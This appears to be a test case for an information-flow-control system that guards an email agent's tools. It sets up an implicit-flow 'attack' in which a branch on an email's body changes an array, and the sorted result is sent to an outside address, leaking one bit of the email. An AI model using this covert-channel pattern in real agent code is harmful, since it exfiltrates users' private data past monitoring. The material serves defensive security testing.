// attack: an array whose length the email decided, sorted natively; its last element says which
// normal: leaks (implicit flow, allowed in NORMAL mode: the push ran in a branch)
const m = await getEmail('m1');
const xs = [2, 1];
if (m.body.includes('a')) xs.push(9);
xs.sort((a, b) => a - b);
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: String(xs[xs.length - 1]) });
